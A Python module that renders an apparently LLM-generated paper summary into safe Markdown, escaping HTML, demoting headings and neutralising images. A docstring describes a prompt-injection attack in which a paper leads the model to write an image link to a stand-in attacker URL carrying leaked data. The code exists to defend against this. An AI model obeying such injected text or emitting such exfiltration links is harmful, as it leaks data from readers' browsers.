"""The Markdown a user reads and downloads: our metadata around the stages' answers.

Title, authors and links come from the arXiv metadata or the PDF, never from a model, so
they cannot be invented; a code link is shown only when it appears in the paper's text.
Pure functions: (paper, state, language) -> str.
"""

from __future__ import annotations

import re

from .grounding import Grounder
from .i18n import Language
from .links import own_code_links
from .paper import Paper
from .pipeline import StageResult, SummaryState
from .stages import basic_info_heading, numbered_stages, stage_record

_TAG_LIKE = re.compile(r"<(?=[A-Za-z/!?])")


def escape_html(text: str) -> str:
    """Show HTML-looking text as text (``<ol>`` stays visible, never becomes markup)."""
    return _TAG_LIKE.sub("&lt;", text)


# ![alt](url "title"), bounded so the pattern stays linear on hostile text.
_INLINE_IMAGE = re.compile(
    r"!\[([^\]\n]{0,500})\]\(\s*<?([^()\s<>]{0,2000})>?(?:\s+(?:\"[^\"\n]{0,500}\"|'[^'\n]{0,500}'))?\s*\)"
)


def _image_as_text(match: re.Match[str]) -> str:
    alt = " ".join(match.group(1).split())
    url = match.group(2).replace("`", "")
    shown = f"`{url}`" if url else ""
    return f"{alt} ({shown})" if alt and shown else (alt or shown)


def defuse_model_markdown(text: str) -> str:
    """Model text as text plus safe formatting: no images, no raw HTML.

    A paper can carry a prompt injection that makes the model write
    ``![](https://attacker/?leak=...)``: rendered, every visitor's browser would fetch it. An
    inline image becomes its alt text and its URL in a code span (shown, never fetched or
    linked); any other image syntax (reference-style ``![alt][ref]``) is escaped so it shows
    literally; HTML tags are shown as text (``escape_html``). Our own figures are added
    around the model's text, never through it, so they still show.
    """
    text = _INLINE_IMAGE.sub(_image_as_text, text)
    text = text.replace("![", "!\\[")
    return escape_html(text)


_HEADING = re.compile(r"^(#{1,6})(\s)", re.MULTILINE)


def demote_headings(markdown: str, *, at_least: int = 3) -> str:
    """Push every heading down a level (and to ``###`` at least): a model's ``# Title`` inside
    a part never opens a part of its own, and a summary placed inside a digest's ``## title``
    entry never opens an entry of its own."""

    def lower(match: re.Match[str]) -> str:
        level = min(6, max(len(match.group(1)) + 1, at_least))
        return "#" * level + match.group(2)

    return _HEADING.sub(lower, markdown)


def _escape_inline(text: str) -> str:
    """Metadata on one line: no HTML, no stray Markdown emphasis or link syntax."""
    text = " ".join(text.split())
    text = escape_html(text)
    return re.sub(r"([\\`*_\[\]])", r"\\\1", text)


def paper_links(paper: Paper, lang: Language) -> str:
    labels = lang.labels
    parts: list[str] = []
    if paper.meta.abs_url:
        parts.append(f"{labels['paper_link']}: [arXiv:{paper.meta.arxiv_id}]({paper.meta.abs_url})")
        parts.append(f"[PDF]({paper.meta.pdf_url})")
    code = own_code_links(paper.text, paper.code_links(), paper.title or "")
    if code:
        parts.append(f"{labels['code_link']}: " + ", ".join(f"<{url}>" for url in code[:3]))
    else:
        parts.append(f"{labels['code_link']}: {labels['no_code']}")
    return " · ".join(parts)


def render_header(paper: Paper, lang: Language, *, engine_note: str | None = None) -> str:
    """Title, authors and links: shown as soon as the paper is read, before any model text."""
    labels = lang.labels
    lines = [f"# {_escape_inline(paper.title or paper.source)}", ""]
    if paper.authors:
        lines.append(f"**{labels['authors']}**: {_escape_inline(', '.join(paper.authors))}")
        lines.append("")
    lines.append(f"**{labels['urls']}**: {paper_links(paper, lang)}")
    meta = paper.meta
    extra: list[str] = []
    if meta.published:
        extra.append(f"**{labels['published']}**: {meta.published[:10]}")
    if meta.comment:
        extra.append(f"**{labels['comment']}**: {_escape_inline(meta.comment)}")
    if extra:
        lines.append("")
        lines.append(" · ".join(extra))
    if engine_note:
        lines += ["", f"> {engine_note}"]
    return "\n".join(lines)


_NUMBERED = re.compile(r"^\s*(?:\(\d+\)|（\d+）|\d+[.)]\s)")


def separate_numbered_parts(text: str) -> str:
    """Put each "(1) ..." part in its own paragraph: Markdown would run them together."""
    out: list[str] = []
    for line in text.splitlines():
        if _NUMBERED.match(line) and out and out[-1].strip():
            out.append("")
        out.append(line)
    return "\n".join(out)


def render_stage(
    result: StageResult | None, lang: Language, grounder: Grounder | None = None
) -> str:
    """One stage's text with its warnings and error, as its own panel shows it. With a
    ``grounder``, a finished text has its citations and numbers checked against the paper."""
    if result is None:
        return ""
    parts: list[str] = []
    if result.text.strip():
        text = demote_headings(defuse_model_markdown(result.text.strip()))  # parts are "##"
        if grounder is not None and result.done:
            text = grounder.annotate(text)
        parts.append(separate_numbered_parts(text))
    for warning in result.warnings:
        parts.append(f"> ⚠️ {escape_html(warning)}")
    if result.error:
        parts.append(f"> ❌ {lang.labels['stage_failed'].format(reason=escape_html(result.error))}")
    return "\n\n".join(parts)


def _field_pattern(label: str) -> re.Pattern[str]:
    return re.compile(
        rf"^\s*(?:[-*]\s*)?(?:\*\*)?{re.escape(label)}(?:\*\*)?\s*[:：]\s*(?:\*\*)?\s*(.*)$"
    )


def split_overview(text: str, lang: Language) -> tuple[str | None, str | None, str]:
    """(affiliation, keywords, the rest) from an overview answer."""
    affiliation_re = _field_pattern(lang.labels["affiliation"])
    keywords_re = _field_pattern(lang.labels["keywords"])
    affiliation = keywords = None
    rest: list[str] = []
    for line in text.splitlines():
        if affiliation is None and (m := affiliation_re.match(line)):
            affiliation = m.group(1).strip()
        elif keywords is None and (m := keywords_re.match(line)):
            keywords = m.group(1).strip()
        else:
            rest.append(line)
    return affiliation, keywords, "\n".join(rest).strip()


def render_document(
    paper: Paper,
    state: SummaryState,
    lang: Language,
    *,
    engine_note: str | None = None,
    grounder: Grounder | None = None,
) -> str:
    """The whole summary, in the structure users know from ChatPaper's posts."""
    out = [render_header(paper, lang, engine_note=engine_note)]
    tldr = state.stages.get("tldr")
    if tldr is not None:
        out += ["", render_stage(tldr, lang, grounder)]
    out += ["", "---", "", render_details(paper, state, lang, grounder)]
    return "\n".join(out).rstrip() + "\n"


def render_basic_info(paper: Paper, state: SummaryState, lang: Language) -> str:
    """ "1. Basic information": our metadata, plus the affiliation and keywords the overview
    answer gives (the paper's first affiliation when it gives none). The same block opens
    the app's numbered parts and the download's."""
    labels = lang.labels
    overview = state.stages.get("overview")
    affiliation, keywords, _rest = split_overview(overview.text if overview else "", lang)
    affiliation = affiliation or (paper.meta.affiliations[0] if paper.meta.affiliations else None)
    not_stated = labels["not_stated"]
    pending = overview is None or not overview.done  # the overview may still name them
    missing = "…" if pending else ("—" if overview.error else not_stated)
    keywords_shown = escape_html(keywords) if keywords else missing
    affiliation_shown = escape_html(affiliation) if affiliation else missing
    return "\n".join(
        [
            f"## {basic_info_heading(lang)}",
            "",
            f"- **{labels['title']}**: {_escape_inline(paper.title or paper.source)}",
            f"- **{labels['authors']}**: {_escape_inline(', '.join(paper.authors)) or not_stated}",
            f"- **{labels['affiliation']}**: {affiliation_shown}",
            f"- **{labels['keywords']}**: {keywords_shown}",
            f"- **{labels['urls']}**: {paper_links(paper, lang)}",
        ]
    )


def shown_result(stage: str, result: StageResult, lang: Language) -> StageResult:
    """What a stage's part shows: the overview without the affiliation and keywords lines,
    which "Basic information" shows."""
    if stage != "overview":
        return result
    _affiliation, _keywords, rest = split_overview(result.text, lang)
    return StageResult(rest, result.done, result.warnings, result.error)


def render_part(
    stage: str, result: StageResult | None, lang: Language, grounder: Grounder | None = None
) -> str:
    """One numbered part with its heading ("## 3. Methods"), as the page and download show
    it; a stage without a number (the tldr) is its text alone; "" when there is nothing."""
    if result is None:
        return ""
    text = render_stage(shown_result(stage, result, lang), lang, grounder)
    record = stage_record(stage)
    heading = record.heading(lang) if record else None
    return f"## {heading}\n\n{text}" if text and heading else text


def render_details(
    paper: Paper, state: SummaryState, lang: Language, grounder: Grounder | None = None
) -> str:
    """Basic information and the numbered parts: the document after its header and tldr,
    also what a digest entry shows under the paper's own Summary."""
    out: list[str] = [render_basic_info(paper, state, lang)]
    for record in numbered_stages():
        result = state.stages.get(record.name)
        if result is None:
            continue
        out += ["", render_part(record.name, result, lang, grounder)]
    if grounder is not None:
        line = grounder.summary(
            defuse_model_markdown(r.text.strip()) for r in state.stages.values()
        )
        if line:
            out += ["", f"> 🔎 {line}"]
    return "\n".join(out).rstrip() + "\n"
